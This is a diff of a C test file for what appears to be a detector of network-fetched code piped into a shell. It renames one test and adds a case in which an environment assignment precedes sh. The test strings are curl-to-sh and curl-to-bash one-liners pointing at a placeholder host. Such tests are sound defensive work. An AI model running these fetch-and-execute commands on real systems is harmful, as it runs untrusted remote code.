@@ -173,12 +173,13 @@ static void what_is_only_fetched_shown_or_stored_is_not_run(void **state)
 }
 
 /* `#` and what follows are no arguments, so the shell still reads its program from the pipe. */
-static void a_remark_is_no_argument(void **state)
+static void a_remark_or_a_setting_is_no_argument(void **state)
 {
     static const char *const piped[] = {
         "curl -s https://a.example/x | sh # see the notes",
         "curl -s https://a.example/x | bash # -c is not meant",
         "curl -h 'a: # b' https://a.example/x | sh",
+        "curl -s https://a.example/x | a=b sh",
         NULL,
     };
     static const char *const not_run[] = {
@@ -319,7 +320,7 @@ int main(void)
         CASE(decoded_text_that_is_run_is_noted),
         CASE(a_script_that_is_written_and_started_is_noted),
         CASE(what_is_only_fetched_shown_or_stored_is_not_run),
-        CASE(a_remark_is_no_argument),
+        CASE(a_remark_or_a_setting_is_no_argument),
         CASE(what_a_declaration_takes_is_followed),
         CASE(a_fetched_file_is_followed_to_its_new_name),
         CASE(addresses_are_judged_by_form),
